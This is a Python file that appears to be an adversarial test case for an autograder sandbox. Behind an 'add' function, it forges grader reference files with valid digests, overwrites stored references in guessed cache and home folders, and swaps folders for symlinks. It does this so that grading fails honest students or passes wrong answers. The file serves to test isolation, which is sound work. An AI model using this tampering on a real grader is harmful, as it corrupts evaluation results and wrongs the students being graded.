"""Attack: forge the grader's reference store, so that later grading processes read a wrong
reference and fail honest students (or pass wrong ones). With the grader's own code (its
package is visible, read-only) it writes frames with a valid digest: into every store folder
it can guess or find (the default cache folders, every home folder, pytest's temporary
folders), over every stored reference it finds, as new files in every lab-version folder, and
by swapping a lab-version folder for a link to a folder of its own.

Expected: the store is outside what the sandbox shows, and every folder outside the private
/tmp is read-only, so nothing is written: add is right only if a write reached a store
outside the private /tmp, so the score is 0 (scale is not implemented). After the run, every
stored reference still reads back as the right value (test_corpus checks it).
"""
import glob
import os
import time
from pathlib import Path

MARKER = "ADVERSARIAL-FORGED"


def _forged_frame():
    import numpy as np

    from autograder.protocol.codec import Encoder
    from autograder.protocol.framing import pack
    from autograder.reference_store import _digest

    value = np.zeros((2, 3))
    encoder = Encoder()
    return pack({"value": encoder.encode(value), "digest": _digest(value)}, encoder.blobs)


def _stores():
    roots = [os.environ.get("AUTOGRADER_CACHE", ""), str(Path.home() / ".cache" / "autograder"), "/root/.cache/autograder"]
    roots += glob.glob("/home/*/.cache/autograder") + glob.glob("/tmp/pytest-of-*/pytest-*/*")
    return [os.path.join(root, "references") for root in roots if root]


def _forge():
    try:
        frame = _forged_frame()
    except Exception:
        frame = b"\0" * 64
    written, started = [], time.monotonic()
    for store in _stores():
        if time.monotonic() - started > 2:  # within the call's time limit
            break
        targets = glob.glob(os.path.join(store, "*", "*.frame"))
        targets += [os.path.join(folder, f"{MARKER}.frame") for folder in glob.glob(os.path.join(store, "*"))]
        targets.append(os.path.join(store, f"00_toy-{MARKER}", f"{MARKER}.frame"))
        for target in targets:
            try:
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "wb") as handle:
                    handle.write(frame)
                written.append(target)
            except OSError:
                continue
        for folder in glob.glob(os.path.join(store, "00_toy-*")):
            try:
                os.rename(folder, folder + f"-{MARKER}")
                os.symlink("/tmp", folder)
                written.append(folder)
            except OSError:
                continue
    return [path for path in written if not path.startswith("/tmp/")]


def add(a, b):
    return a + b if _forge() else a - b


def scale(x, k):
    raise NotImplementedError
